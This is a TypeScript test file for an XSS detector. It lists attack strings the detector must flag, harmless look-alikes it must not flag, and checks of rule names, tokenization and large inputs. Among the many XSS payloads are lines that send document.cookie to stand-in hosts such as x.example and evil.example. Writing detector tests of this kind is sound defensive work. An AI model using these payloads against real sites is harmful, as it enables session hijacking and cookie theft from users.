import t from 'tap';
import { detectXss } from '../../src/detectors/xss';
import { scanHtmlTags, type HtmlTag } from '../../src/tokenizers/html';

// Test vectors written for this project (not copied from any payload corpus).

/** Each must be detected at confidence `high` with an `xss.` rule. */
const positives: string[] = [
  // Script and embedding tags.
  "<script>fetch('//x.example/c?'+document.cookie)</script>",
  '<SCRIPT SRC=//cdn.attacker.example/p.js></SCRIPT>',
  '<sCrIpT>prompt(7)</sCrIpT>',
  '<script/x>confirm(2)</script>',
  '<iframe src="https://frames.example/x"></iframe>',
  '<object data="movie.swf"></object>',
  '<embed src=payload.swf>',
  '<iframe srcdoc="&lt;b&gt;hi&lt;/b&gt;">',
  '<scr<script>ipt>alert(29)</script>',
  '<img src="x` `<script>alert(3)</script>"` `>',
  '\uff1cscript\uff1ealert(30)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(31)+ADw-/script+AD4-',
  '</title><script>alert(4)</script>',
  // Event handlers inside tags.
  '<svg onload=confirm(3)>',
  '<svg/onload=confirm(3)>',
  '<img src=nope onerror=prompt(8)>',
  '<img src="a.png"onerror="prompt(8)">',
  '<body onpageshow=alert(4)>',
  '<details open ontoggle=alert(5)>',
  '<x onclick=alert(6)>click',
  '<input autofocus onfocus=alert(9)>',
  '<video><source onerror="alert(33)"></video>',
  '<a onmouseover\n=\nalert(1)>x</a>',
  '<div onpointerrawupdate=alert(1)>',
  '<custom-el onfoo="bar()">',
  '<svg><set attributeName="onmouseover" to="alert(32)"/></svg>',
  // Script URLs in attributes, with the usual disguises.
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(10)">x</maction></math>',
  '<a href="jav&#x09;ascript:alert(11)">x</a>',
  '<a href="JaVaScRiPt:alert(12)">x</a>',
  '<a href="java\nscript:alert(13)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(14)">x</a>',
  '<a href=" \u0001javascript:alert(15)">x</a>',
  '<a href="javascript&colon;alert(16)">x</a>',
  '<a href="vbscript:MsgBox(1)">x</a>',
  '<a href="data:text/html;base64,PGI+aGk8L2I+">x</a>',
  '<a href="DATA:image/svg+xml,<svg/>">x</a>',
  '<form action="javascript:alert(16)"><button>go</button></form>',
  '<button formaction=javascript:alert(17)>x</button>',
  '<a href="j&#0;avascript:alert(1)">x</a>',
  // Other active tags.
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=import href=https://evil.example/x.html>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<xml src="island.xml"></xml>',
  '<div datasrc="#island" datafld="b" dataformatas="html"></div>',
  // Attribute breakouts without a tag.
  '" onmouseover="alert(18)',
  "' autofocus onfocus='alert(19)",
  'x" onpointerenter=prompt(20) y="',
  '"onfocus=alert(1) autofocus x="',
  '  onload= ',
  'x onmouseover=alert(1)',
  'Mozilla/5.0 (X11; onload=alert(document.domain))',
  // Script URLs on their own.
  'javascript:alert(21)',
  "  javascript:void(document.body.innerHTML='x')",
  'JAVASCRIPT:alert`1`',
  'javascript:/*x*/alert(1)',
  'vbscript:MsgBox("x")',
  'data:text/html,<b onmouseover=alert(1)>x</b>',
  '[click me](javascript:alert(1))',
  // CSS.
  '<div style="width: expression(alert(22))">',
  '<div style="x:exp/**/ression(alert(23))">',
  'color: red; background: url(javascript:alert(24))',
  'x:\\65xpression(alert(1))',
  'behavior: url(#default#time2)',
  // JavaScript string breakouts and sink calls.
  "';alert(26);//",
  '"-prompt(27)-"',
  "\\';confirm(1)//",
  '}alert(1);{',
  'alert(document.domain)',
  'prompt`1`',
  "eval(atob('YWxlcnQoMSk='))",
  "top['al'+'ert'](1)",
  'self[/con/.source+/firm/.source](1)',
  '[5].find(alert)',
  '[].map.call`${alert}`',
  'x&{alert(1)};',
  // Element names behind blanks, a namespace prefix, or spelled out letter by letter.
  '< script src=//cdn.attacker.example/p.js>',
  '<v: script>confirm(4)</v: script>',
  '<\tiframe src=//frames.example/x>',
  '<o b j e c t data=movie.swf>',
  'q<s\tc\tr\ti\tp\tt>',
  '<b a s e href=//evil.example/>',
  // A value that is only a numeric reference to `<`: a probe for entity decoding.
  '&#x00003C;',
  '&#0060',
  // Calls and DOM access carried inside a tag, whatever the attribute.
  '<a href="/help#prompt(9)">x</a>',
  '<img[x]src=1[y]onerror[z]="confirm(2)">',
  '<p title="document.domain">',
  '<q cite="https://x.example/#document.cookie=1">',
  // DOM code as a value or after a breakout.
  "document.location='https://evil.example/?c='+document.cookie",
  '";window.location="//evil.example";"',
  "'-document.write(1)-'",
  'document.body.appendChild(document.createElement("img")).src="//x.example"',
  'javascript:window.location',
  // Backslashes a string layer consumes before the call.
  'prompt\\(7\\)',
  'confirm\\`8\\`',
  // A DTD that gives elements a default event handler; IE behaviour imports squeezed together.
  '<!DOCTYPE r [<!ATTLIST p onmouseover CDATA "x()">]><p>',
  '<IMPORTIMPLEMENTATION="x.htc">',
  // Obfuscated CSS in a style attribute.
  '<b style="\\62 ehavior:url(x.htc)">',
  "<i style='col\\or:red'>",
  '<p style="font-family:\'\\3c \\2f style\\3e\'">',
  // Client-side templates.
  "{{constructor.constructor('alert(25)')()}}",
  "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
];

/** Each must not be `high` (undefined, low or medium are fine). */
const notHigh: string[] = [
  'x<y>z',
  'use <b>bold</b> for emphasis',
  'contact <me@x.com>',
  '<p>Hello</p>',
  '<a href="/apps/">apps</a>',
  '<img src="cat.jpg" alt="cat">',
  '<img alt="JavaScript: The Good Parts" src="book.png">',
  'V1_OTHER_1"><IMG CLASS="SIZE-FULL',
  'JavaScript: The Good Parts',
  'I love javascript: it is fun (mostly)',
  'try javascript:alert(1) in the console',
  'Use `onClick={handle}` in the button',
  'online=true&onboarding=false',
  'Hello {{name}}, your order {{order.id}} shipped',
  'please confirm (yes/no)',
  'Status: alert (high)',
  'Check the alert(s) page',
  "don't-alert(me)",
  '<xml><ToUserName><![CDATA[u]]></ToUserName><Content><![CDATA[hi]]></Content></xml>',
  '<?xml version="1.0"?><note><to>Tove</to></note>',
  '<svg width="10" height="10"></svg>',
  'if (a<b && c>d) return;',
  '{"type": "data", "on": true, "expression": "a+b"}',
  'Use `document.cookie` carefully',
  'the </script> tag ends a script',
  'style: expression of interest',
  'data:image/png;base64,iVBORw0KGgo=',
  // CSS that looks odd but is ordinary or only probes (medium at most).
  '<div style="font-family:x}body{color:red">',
  '<div style="width:${w}px">',
  '<div style={styles.box}>',
  '<td style="font-family:\\5FAE\\8F6F\\96C5\\9ED1">',
  '<p style=\\"color:red;\\nmargin:0\\">hi</p>',
  '<div style="background:url(C:\\Users\\me\\bg.png)">',
  // Comparisons and prose, not tags.
  'n < script && m',
  'for (i = 0; i < iframes.length; i++)',
  'I <3 s c r i p t s',
  'price &#60; 10',
  '&lt;',
  // DOM names in prose, paths and ordinary code.
  'document.domain is deprecated',
  'see document.cookie docs',
  'files/document.body.txt (draft)',
  '<a href="https://docs.example/javascript-manual/document.cookie">cookies</a>',
  'window.location vs document.location, which to use?',
  'const el = document.getElementById("app");',
  'document.write() is deprecated',
  'eval() is evil',
  '<img src="cat.png" alt="Press confirm (yes) to go on">',
  '<project xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">',
  '<noscript>Please enable JavaScript</noscript>',
];

/** Each must return undefined. */
const clean: string[] = [
  'a < b and c > d',
  '<3',
  'I <3 this product',
  "O'Brien",
  "it's 5 o'clock",
  'Tom & Jerry',
  'salt; pepper',
  '$5 & up',
  'https://example.com/path?x=1',
  'jane.doe@example.com',
  '+1 (555) 010-0000',
  'Müller & Söhne GmbH',
  'regular expression(s) are hard',
  'font: bold; color: red',
  'mailto:someone@example.com',
  'vbscript is deprecated',
  'the onload event fires when the page is ready',
  'x = confirm; y = prompt',
  '[link](https://example.com) and `code`',
  '**bold** and _italic_ and > quote',
  '1 < 2 > 0',
  '=> fat arrow',
  'Meet me at 5:30 (confirm)',
  '東京都渋谷区',
  '42',
  '',
];

t.test('positives are high xss findings', async (t) => {
  for (const v of positives) {
    const d = detectXss(v);
    t.equal(d?.confidence, 'high', JSON.stringify(v));
    t.match(d?.rule ?? '', /^xss\.[a-z-]+$/, JSON.stringify(v));
  }
});

t.test('benign look-alikes are not high', async (t) => {
  for (const v of notHigh) t.not(detectXss(v)?.confidence, 'high', JSON.stringify(v));
});

t.test('plain benign values are not reported at all', async (t) => {
  for (const v of clean) t.equal(detectXss(v), undefined, JSON.stringify(v));
});

t.test('rules name the structure', async (t) => {
  const rule = (v: string): string | undefined => detectXss(v)?.rule;
  t.equal(rule('<script>alert(1)</script>'), 'xss.script-tag');
  t.equal(rule('<iframe src=//x.example>'), 'xss.embed-tag');
  t.equal(rule('<img src=x onerror=alert(1)>'), 'xss.event-handler');
  t.equal(rule('" onfocus="alert(1)" autofocus="'), 'xss.event-handler');
  t.equal(rule('<a href="javascript:alert(1)">x</a>'), 'xss.script-url');
  t.equal(rule('javascript:alert(1)'), 'xss.script-url');
  t.equal(rule('<base href="//evil.example/">'), 'xss.base-href');
  t.equal(rule('<meta http-equiv="refresh" content="0;url=//x.example">'), 'xss.meta-refresh');
  t.equal(rule('<link rel=import href=//x.example/a.html>'), 'xss.link-import');
  t.equal(rule('<style>body{}</style>'), 'xss.style-tag');
  t.equal(rule('a:expression(alert(1))'), 'xss.css-expression');
  t.equal(rule('-moz-binding: url(//x.example/b.xml#x)'), 'xss.css-binding');
  t.equal(rule("';alert(1)//"), 'xss.js-breakout');
  t.equal(rule('{{constructor.constructor("alert(1)")()}}'), 'xss.template-injection');
  t.equal(rule('<div datasrc=#x datafld=a dataformatas=html>'), 'xss.active-attribute');
  t.equal(rule('<!--#exec cmd="ls" -->'), undefined, 'an SSI directive is the ssi class\'s');
  t.equal(rule('alert(1);</script><b>'), 'xss.context-breakout');
  t.equal(rule('<f o r m action=//x.example>'), 'xss.tag-obfuscation');
  t.equal(rule('&#X3c;'), 'xss.encoded-probe');
  t.equal(rule('<a href="x#confirm(1)">'), 'xss.script-in-tag');
  t.equal(rule('document.cookie="sid=1"'), 'xss.dom-access');
  t.equal(rule('<x title="window.location">'), 'xss.dom-access');
  t.equal(rule('<a style="no\\xss:1">'), 'xss.css-obfuscation');
});

t.test('harmless markup is low, breakouts into harmless tags medium', async (t) => {
  t.equal(detectXss('use <b>bold</b>')?.confidence, 'low');
  t.equal(detectXss('"><img class="x">')?.confidence, 'medium');
  t.equal(detectXss('<svg width="1"></svg>')?.confidence, 'medium');
  t.equal(detectXss('try javascript:alert(1) in the console')?.confidence, 'medium');
  t.equal(detectXss('<div style="font-family:x}color:red">')?.rule, 'xss.css-injection');
  t.equal(detectXss('<div style="font-family:x}color:red">')?.confidence, 'medium');
  t.equal(detectXss('<plaintext>')?.confidence, 'medium');
  t.equal(detectXss('x = document.getElementById("app")')?.confidence, 'medium');
  t.equal(detectXss('<x xsi:schemaLocation="urn:x http://schemas.example/x.xsd">')?.confidence, 'low');
  // A bare `document.cookie` has no character the engine's mask lets through; with one it fires.
  t.equal(detectXss('document.cookie'), undefined);
  t.equal(detectXss('document.cookie;')?.confidence, undefined);
  t.equal(detectXss('(document.cookie)')?.confidence, 'medium');
});

t.test('reasons are one short sentence without echoing the input', async (t) => {
  const long = '<img src=x on' + 'x'.repeat(500) + '=alert(1)>';
  const d = detectXss(long);
  t.equal(d?.confidence, 'high');
  t.ok((d?.reason.length ?? 0) < 200, 'short reason');
  t.notMatch(d?.reason ?? '', /x{40}/);
  for (const v of positives) t.ok((detectXss(v)?.reason.length ?? 0) < 200, JSON.stringify(v));
});

t.test('html tokenizer splits tags like a browser', async (t) => {
  const tags: HtmlTag[] = [];
  scanHtmlTags('a < b <IMG SRC="x"onerror=y/z=1 \'q\'=2><!-- <script> --></p><svg/onload=f', (tag) => {
    tags.push(tag);
  });
  t.same(
    tags.map((x) => [x.name, x.closing, x.attributes.map((a) => [a.name, a.value, a.hasValue]), x.terminated]),
    [
      ['img', false, [['src', 'x', true], ['onerror', 'y/z=1', true], ["'q'", '2', true]], true],
      ['p', true, [], true],
      ['svg', false, [['onload', 'f', true]], false],
    ],
  );
  let count = 0;
  scanHtmlTags('<a><b><c>', () => {
    count++;
    return true;
  });
  t.equal(count, 1, 'visit can stop the scan');
});

t.test('degenerate inputs never throw', async (t) => {
  const odd = ['', 'a', '<', '>', '<a', '</', '<!', '<!--', '<?', '&#', '&#x', '&', '"', "'", '`', '{{', '}}', '${', ':', 'javascript:', '\ud800', '\udfff<a onx=1>', '\u0000<script\u0000>', '<a href="', '<a b=', '+ADw-'];
  for (const v of odd) t.doesNotThrow(() => detectXss(v), JSON.stringify(v));
  // Not a string at run time (a caller bypassing the types) is not a finding.
  t.equal(detectXss(42 as unknown as string), undefined);
});

t.test('adversarial 1 MB inputs return without throwing', async (t) => {
  const MB = 1 << 20;
  const big: Record<string, string> = {
    lt: '<'.repeat(MB),
    ltA: '<a'.repeat(MB / 2),
    openAttr: '<a title="'.repeat(MB / 10),
    comments: '<!--'.repeat(MB / 4),
    parens: '('.repeat(MB),
    quotes: '"'.repeat(MB),
    singleQuotes: "'".repeat(MB),
    colons: ':'.repeat(MB),
    schemes: 'javascript:'.repeat(MB / 11),
    entities: '&#106;'.repeat(MB / 6),
    tabEntities: 'j&#9;'.repeat(MB / 5),
    handlers: ' onload='.repeat(MB / 8),
    cssComments: ':/*'.repeat(MB / 3),
    expressions: ':expression'.repeat(MB / 11),
    braces: '{{'.repeat(MB / 2),
    dollars: '${'.repeat(MB / 2),
    brackets: 'window['.repeat(MB / 7),
    fullWidth: '\uff1c'.repeat(MB),
    surrogates: '\ud800'.repeat(MB),
    nul: '\u0000'.repeat(MB),
    blanks: ' '.repeat(MB),
    prose: 'Tom & Jerry: a < b (c) = "d" '.repeat(MB / 29),
    attlist: '<!ATTLIST a on'.repeat(MB / 14),
    ltBlanks: '< '.repeat(MB / 2),
    ltPrefix: '<x: '.repeat(MB / 4),
    spelled: '<s c r i p '.repeat(MB / 11),
    domRoots: 'document.'.repeat(MB / 9),
    domChain: 'document.body' + '.a'.repeat(MB / 2),
    tagCalls: '<a b="alert(1) c" d=1>'.repeat(MB / 22),
    tagDom: '<a b="document.cookie x">'.repeat(MB / 25),
    styleEscapes: '<a style="' + '\\'.repeat(MB) + '">',
    styleBraces: '<a style="' + '}'.repeat(MB) + '">',
    backslashCalls: 'alert' + '\\'.repeat(MB),
    callTicks: '(`'.repeat(MB / 2),
    iframes: '<iframe '.repeat(MB / 8),
    players: '<iframe src="https://www.youtube.com/embed/x">'.repeat(MB / 46),
    timers: 'setTimeout(a, '.repeat(MB / 14),
  };
  for (const [name, v] of Object.entries(big)) {
    t.doesNotThrow(() => detectXss(v), name);
  }
  const five = '<a b="c">x</a> '.repeat((5 * MB) / 15);
  t.doesNotThrow(() => detectXss(five), '5 MB');
  t.equal(detectXss('x'.repeat(MB) + '<script>alert(1)</script>')?.confidence, 'high', 'payload after 1 MB of padding');
});

t.test('player embeds, JSX handler bindings and timers given a function name', async (t) => {
  const high = [
    '<svg><animate onbegin=alert(1) attributeName=x>',
    '<x contenteditable onfocusin=alert(1)>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    // An iframe to a player host with anything active on it, or to any other host, stays high.
    '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)">',
    '<iframe src="https://www.youtube.com/embed/x" srcdoc="<b>x</b>">',
    '<iframe src="https://www.youtube.com.evil.example/embed/x">',
    '<iframe src="https://www.youtube.com@evil.example/embed/x">',
    '<iframe src="https://www.youtube.com\\@evil.example/embed/x">',
    '<iframe src="http://www.youtube.com/embed/x">',
    '<iframe src="https://evil.example/embed/x">',
    '<iframe src="https://www.youtube.com/watch?v=x">',
    '<img src="x <iframe src="https://www.youtube.com/embed/x">',
    '<iframe src="https://www.youtube.com/embed/x"></iframe><iframe src="//evil.example">',
    '<!-- <iframe src="https://www.youtube.com/embed/x"> -->',
    // JSX handlers that call or hold code.
    '<button onClick={alert(1)}>x</button>',
    '<button onClick={() => setOpen(true)}>x</button>',
    // Timers given code, a sink, or called after a breakout.
    'setTimeout(alert, 0)',
    "setTimeout('alert(1)', 0)",
    'setTimeout(function(){alert(1)}, 0)',
    "';setTimeout(x,1)//",
    "setInterval(eval, 1, 'alert(1)')",
  ];
  for (const v of high) t.equal(detectXss(v)?.confidence, 'high', `high: ${v}`);
  const notHigh = [
    '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe>',
    '<iframe src="https://www.youtube-nocookie.com/embed/abc?start=30&amp;rel=0"></iframe>',
    '<iframe src="https://player.vimeo.com/video/76979871" width="640" height="360" allow="autoplay; fullscreen" allowfullscreen></iframe>',
    '<p>Map: <iframe src="https://www.google.com/maps/embed?pb=!1m18" style="border:0;" loading="lazy"></iframe></p>',
    '<iframe src=https://open.spotify.com/embed/track/4uLU6hMCjMI75M1A2tKUQC>',
    'export default function Button({ onClick }) { return <button onClick={onClick}>Save</button>; }',
    '<input onChange={this.handleChange} value={value} />',
    'setInterval(tick, 1000)',
    'setTimeout(this.poll, 500)',
  ];
  for (const v of notHigh) t.not(detectXss(v)?.confidence, 'high', `not high: ${v}`);
  t.equal(detectXss('<iframe src="https://player.vimeo.com/video/1"></iframe>')?.confidence, 'medium', 'a player embed is still reported');
});
